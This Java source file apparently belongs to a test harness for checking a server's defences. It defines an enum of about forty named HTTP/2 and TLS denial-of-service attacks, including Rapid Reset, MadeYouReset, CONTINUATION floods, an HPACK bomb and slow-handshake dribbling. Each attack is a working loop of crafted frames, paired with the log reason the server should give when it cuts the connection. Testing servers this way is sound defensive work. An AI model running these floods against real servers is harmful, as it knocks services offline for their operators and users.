package dev.keysource.examples.launcher;

import java.io.IOException;
import java.nio.ByteBuffer;
import java.util.Arrays;

import static dev.keysource.examples.launcher.RawPeer.CONTINUATION;
import static dev.keysource.examples.launcher.RawPeer.DATA;
import static dev.keysource.examples.launcher.RawPeer.END_HEADERS;
import static dev.keysource.examples.launcher.RawPeer.END_STREAM;
import static dev.keysource.examples.launcher.RawPeer.GOAWAY;
import static dev.keysource.examples.launcher.RawPeer.HEADERS;
import static dev.keysource.examples.launcher.RawPeer.INITIAL_WINDOW;
import static dev.keysource.examples.launcher.RawPeer.MOST;
import static dev.keysource.examples.launcher.RawPeer.PING;
import static dev.keysource.examples.launcher.RawPeer.PRIORITY;
import static dev.keysource.examples.launcher.RawPeer.PRIORITY_UPDATE;
import static dev.keysource.examples.launcher.RawPeer.PUSH_PROMISE;
import static dev.keysource.examples.launcher.RawPeer.RST_STREAM;
import static dev.keysource.examples.launcher.RawPeer.TABLE_SIZE;
import static dev.keysource.examples.launcher.RawPeer.WINDOW_UPDATE;
import static dev.keysource.examples.launcher.RawPeer.literal;
import static dev.keysource.examples.launcher.RawPeer.number;
import static dev.keysource.examples.launcher.RawPeer.request;
import static java.nio.charset.StandardCharsets.US_ASCII;

/** The attacks on servers of HTTP/2 and TLS that have public names, and what ends a connection that carries them out. */
enum Attack {
    /** CVE-2019-9511: answers are taken byte by byte. */
    DATA_DRIBBLE(Limit.FRAMES, peer -> {
        peer.begin(INITIAL_WINDOW, 0);
        int stream = peer.call();
        while (true) {
            peer.frame(WINDOW_UPDATE, 0, stream, number(1));
            peer.frame(WINDOW_UPDATE, 0, 0, number(1));
            peer.frame(PRIORITY, 0, stream, new byte[5]);
            peer.sendAndRead();
        }
    }),
    /** CVE-2019-9512: pings whose answers nobody reads. */
    PING_FLOOD(Limit.FRAMES, flood(false, peer -> peer.frame(PING, 0, 0, new byte[8]))),
    /** CVE-2019-9513: streams whose priorities are shuffled. */
    RESOURCE_LOOP(Limit.FRAMES, flood(true, peer -> {
        int first = peer.call();
        int second = peer.call();
        peer.frame(PRIORITY, 0, first, priority(second));
        peer.frame(PRIORITY, 0, second, priority(first));
    })),
    /** CVE-2019-9514: malformed requests, which the server resets; nobody reads that. */
    RESET_FLOOD(Limit.FRAMES, flood(false, peer -> peer.frame(HEADERS, END_HEADERS, peer.nextStream(), (byte) 0x83))),
    /** CVE-2019-9515: settings, which the server acknowledges; nobody reads that. */
    SETTINGS_FLOOD(Limit.FRAMES, flood(false, RawPeer::settings)),
    /** CVE-2019-9516: header fields with neither name nor value. */
    EMPTY_HEADERS_LEAK(
            Limit.FRAMES,
            flood(true, peer -> peer.frame(HEADERS, END_HEADERS | END_STREAM, peer.nextStream(), new byte[60]))),
    /** CVE-2019-9517: a window without end, but the TCP connection is not read. */
    INTERNAL_DATA_BUFFERING(Limit.FRAMES, peer -> {
        peer.begin(INITIAL_WINDOW, MOST);
        peer.frame(WINDOW_UPDATE, 0, 0, number(MOST - 65_535));
        while (true) {
            peer.call();
            peer.send();
        }
    }),
    /** CVE-2019-9518: frames without payload that do not end the stream. */
    EMPTY_FRAMES(Limit.FRAMES, peer -> {
        peer.begin();
        int stream = peer.open();
        while (true) {
            peer.frame(DATA, 0, stream);
            peer.sendAndRead();
        }
    }),
    /** CVE-2023-44487: calls that are given up as soon as they have begun. */
    RAPID_RESET(Limit.FRAMES, flood(true, peer -> peer.frame(RST_STREAM, 0, peer.call(), number(8)))),
    /** CVE-2025-8671, MadeYouReset: the window of a stream grows beyond what there may be. */
    RESET_BY_WINDOW_OVERFLOW(
            Limit.FRAMES, flood(true, peer -> peer.frame(WINDOW_UPDATE, 0, peer.call(), number(MOST)))),
    /** The same, by a window that grows by nothing. */
    RESET_BY_ZERO_INCREMENT(Limit.FRAMES, flood(true, peer -> peer.frame(WINDOW_UPDATE, 0, peer.call(), number(0)))),
    /** The same, by data on a stream that the client has closed. */
    RESET_BY_HALF_CLOSED_DATA(Limit.FRAMES, flood(true, peer -> peer.frame(DATA, 0, peer.call(), new byte[5]))),
    /** The same, by headers on such a stream. */
    RESET_BY_HALF_CLOSED_HEADERS(
            Limit.FRAMES, flood(true, peer -> peer.frame(HEADERS, END_HEADERS, peer.call(), request()))),
    /** The same, by a stream that depends on itself. */
    RESET_BY_SELF_DEPENDENCY(Limit.FRAMES, flood(true, peer -> {
        int stream = peer.call();
        peer.frame(PRIORITY, 0, stream, priority(stream));
    })),
    /** The same, by a PRIORITY frame of a wrong length. */
    RESET_BY_WRONG_LENGTH(Limit.FRAMES, flood(true, peer -> peer.frame(PRIORITY, 0, peer.call(), new byte[4]))),
    /** CVE-2024-27316 and its kin: a header block without end. */
    CONTINUATION_FLOOD(Limit.FRAMES, peer -> {
        peer.begin();
        int stream = peer.nextStream();
        peer.frame(HEADERS, 0, stream, request());
        while (true) {
            peer.frame(CONTINUATION, 0, stream, literal("x", "y"));
            peer.send();
        }
    }),
    /** The same, with nothing in the frames. */
    EMPTY_CONTINUATIONS(Limit.FRAMES, peer -> {
        peer.begin();
        int stream = peer.nextStream();
        peer.frame(HEADERS, 0, stream, request());
        while (true) {
            peer.frame(CONTINUATION, 0, stream);
            peer.send();
        }
    }),
    /** CVE-2016-6581: one large entry of the HPACK table, named again and again in a byte each. */
    HPACK_BOMB(Limit.FRAMES, peer -> {
        peer.begin();
        byte[] entry = new byte[3_000];
        entry[0] = 0x40;
        entry[1] = 1;
        entry[2] = 'x';
        entry[3] = 0x7f; // the length: 127, and 2,868 in the next two
        entry[4] = (byte) (2_868 - 127 & 0x7f | 0x80);
        entry[5] = (byte) (2_868 - 127 >> 7);
        Arrays.fill(entry, 6, 6 + 2_868, (byte) 'y');
        Arrays.fill(entry, 6 + 2_868, entry.length, (byte) 0xbe);
        peer.frame(HEADERS, END_HEADERS, peer.nextStream(), entry);
        byte[] again = new byte[4_000];
        Arrays.fill(again, (byte) 0xbe);
        while (true) {
            peer.frame(HEADERS, END_HEADERS, peer.nextStream(), again);
            peer.sendAndRead();
        }
    }),
    /** The size of the HPACK tables is changed again and again. */
    TABLE_SIZE_GAMES(Limit.FRAMES, flood(true, peer -> {
        peer.settings(TABLE_SIZE, 0, TABLE_SIZE, MOST);
        peer.frame(HEADERS, END_HEADERS, peer.nextStream(), (byte) 0x20, (byte) 0x3f, (byte) 0xe1, (byte) 0x1f);
    })),
    /** The window of all streams is changed again and again. */
    WINDOW_SIZE_GAMES(Limit.FRAMES, flood(true, peer -> {
        peer.open();
        peer.settings(INITIAL_WINDOW, 0, INITIAL_WINDOW, 65_535);
    })),
    /** Header lists as large as a frame can be. */
    HUGE_HEADERS(Limit.FRAMES, flood(true, peer -> {
        byte[] block = new byte[16_384];
        byte[] field = literal("x-huge-header-field", "y".repeat(100));
        for (int at = 0; at + field.length <= block.length; at += field.length) {
            System.arraycopy(field, 0, block, at, field.length);
        }
        peer.frame(HEADERS, END_HEADERS, peer.nextStream(), block);
    })),
    /** The client says again and again that it is going. */
    GOAWAY_FLOOD(Limit.FRAMES, flood(true, peer -> peer.frame(GOAWAY, 0, 0, new byte[8]))),
    PRIORITY_FLOOD(Limit.FRAMES, flood(true, peer -> peer.frame(PRIORITY, 0, peer.nextStream(), priority(0)))),
    /** RFC 9218. */
    PRIORITY_UPDATE_FLOOD(
            Limit.FRAMES,
            flood(true, peer -> peer.frame(PRIORITY_UPDATE, 0, 0, new byte[] {0, 0, 0, 1, 'u', '=', '1'}))),
    /** Frames of types that nobody has defined, which have to be ignored (RFC 9113, section 5.5). */
    UNKNOWN_FRAMES(Limit.FRAMES, flood(true, peer -> peer.frame(0xee, 0xff, 0, new byte[100]))),
    /** What only servers may send. */
    PUSH_PROMISES(Limit.PROTOCOL, flood(true, peer -> peer.frame(PUSH_PROMISE, END_HEADERS, peer.call(), number(2)))),
    WINDOW_UPDATE_FLOOD(Limit.FRAMES, flood(true, peer -> peer.frame(WINDOW_UPDATE, 0, 0, number(1)))),
    /** More streams at once than the server allows. */
    STREAM_FLOOD(Limit.FRAMES, flood(true, RawPeer::open)),
    /** Well-formed calls, as fast as they go. */
    CALL_FLOOD(Limit.FRAMES, flood(true, RawPeer::call)),
    /** Much data for one call, as long as the window allows and longer. */
    DATA_FLOOD(Limit.BYTES, peer -> {
        peer.begin();
        int stream = peer.open();
        while (true) {
            peer.frame(DATA, 0, stream, new byte[8_192]);
            peer.sendAndRead();
        }
    }),
    /** Asks some things, and opens no window for the answers. */
    ZERO_WINDOW(Limit.CALL, peer -> {
        peer.begin(INITIAL_WINDOW, 0);
        for (int i = 0; i < 4; i++) {
            peer.call();
        }
        peer.send();
        while (true) {
            peer.linger();
        }
    }),
    /** Slow in HTTP/2: the beginning, byte by byte. */
    SLOW_PREFACE(Limit.HANDSHAKE, peer -> {
        peer.handshake("TLSv1.3");
        peer.bytes("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(US_ASCII));
        peer.dribble();
    }),
    /** Slow in HTTP/2: a frame, byte by byte. */
    SLOW_HEADERS(Limit.FRAME, peer -> {
        peer.begin();
        peer.open();
        peer.dribble();
    }),
    /** Slow in HTTP/2: a header block, of which the next part never comes. */
    UNENDED_HEADERS(Limit.FRAME, peer -> {
        peer.begin();
        peer.frame(HEADERS, 0, peer.nextStream(), request());
        peer.send();
        while (true) {
            peer.linger();
        }
    }),
    /** Slow in HTTP/2: calls whose message never comes. */
    SLOW_CALLS(Limit.CALL, peer -> {
        peer.begin();
        peer.open();
        peer.open();
        peer.send();
        while (true) {
            peer.linger();
        }
    }),
    /** Slow in TCP: a connection on which nothing comes. */
    IDLE_SOCKETS(Limit.HANDSHAKE, RawPeer::dribble),
    /** Slow in TLS: the ClientHello, byte by byte. */
    SLOW_HANDSHAKE(Limit.HANDSHAKE, peer -> {
        peer.bytes(RawPeer.clientHello());
        peer.dribble();
    }),
    /** A ClientHello that announces as many bytes as can be, and has them. */
    BIG_CLIENT_HELLO(Limit.TLS, peer -> {
        peer.bytes((byte) 22, (byte) 3, (byte) 3, (byte) 0x40, (byte) 0, (byte) 1, (byte) -1, (byte) -1, (byte) -1);
        peer.bytes(new byte[0x4000 - 4]);
        while (true) {
            peer.bytes((byte) 22, (byte) 3, (byte) 3, (byte) 0x40, (byte) 0);
            peer.bytes(new byte[0x4000]);
            peer.sendAndRead();
        }
    }),
    /** What is no TLS at all. */
    PLAIN_TEXT(Limit.TLS, peer -> {
        while (true) {
            peer.bytes("GET / HTTP/1.1\r\nHost: localhost\r\n\r\n".getBytes(US_ASCII));
            peer.sendAndRead();
        }
    }),
    /** TLS 1.2, whose clients can ask for a handshake again and again (CVE-2011-1473). */
    RENEGOTIATION(Limit.TLS, peer -> {
        peer.handshake("TLSv1.2");
        while (true) {
            peer.updateKeys();
        }
    }),
    /** The keys of TLS 1.3 are changed again and again. */
    KEY_UPDATES(Limit.TLS, peer -> {
        peer.begin();
        while (true) {
            peer.updateKeys();
        }
    }),
    /** Connections that are closed as soon as they stand. */
    CONNECT_AND_CLOSE(Limit.NONE, peer -> {}),
    /** Connections that are closed as soon as they are encrypted. */
    HANDSHAKE_FLOOD(Limit.NONE, peer -> peer.handshake("TLSv1.3")),
    /** Connections that begin well and then do nothing: they hold a place until somebody newer wants it. */
    HELD_PLACES(Limit.NONE, peer -> {
        peer.begin();
        while (true) {
            peer.linger();
        }
    });

    private static final int AT_ONCE = 20;

    final Limit limit;
    private final Script script;

    /**
     * What ends the connection, as the log has it after {@code why=}. The transport is sometimes faster, with an error of HTTP/2
     * (RFC 9113, section 7).
     */
    enum Limit {
        FRAMES(false, "too-many-frames"),
        BYTES(false, "too-many-bytes"),
        /** What HTTP/2 forbids, whoever sends it. */
        PROTOCOL(false, "protocol-error"),
        TLS(false, "handshake-failed"),
        HANDSHAKE(true, "slow-handshake"),
        CALL(true, "slow-call"),
        FRAME(true, "slow-frame"),
        /** The client ends its connections by itself, or they cost nothing but a place. */
        NONE(false, "");

        final boolean slow;
        private final String reason;

        Limit(boolean slow, String reason) {
            this.slow = slow;
            this.reason = reason;
        }

        String reason() {
            return reason;
        }
    }

    /** What one connection does, until the server ends it. */
    private interface Script {
        void run(RawPeer peer) throws IOException;
    }

    private interface Step {
        void add(RawPeer peer);
    }

    Attack(Limit limit, Script script) {
        this.limit = limit;
        this.script = script;
    }

    private static Script flood(boolean reads, Step step) {
        return peer -> {
            peer.begin();
            while (true) {
                for (int i = 0; i < AT_ONCE; i++) {
                    step.add(peer);
                }
                if (reads) {
                    peer.sendAndRead();
                } else {
                    peer.send();
                }
            }
        };
    }

    /** The payload of a PRIORITY frame. */
    private static byte[] priority(int dependency) {
        return ByteBuffer.allocate(5).putInt(dependency).put((byte) 1).array();
    }

    void run(RawPeer peer) throws IOException {
        script.run(peer);
    }
}
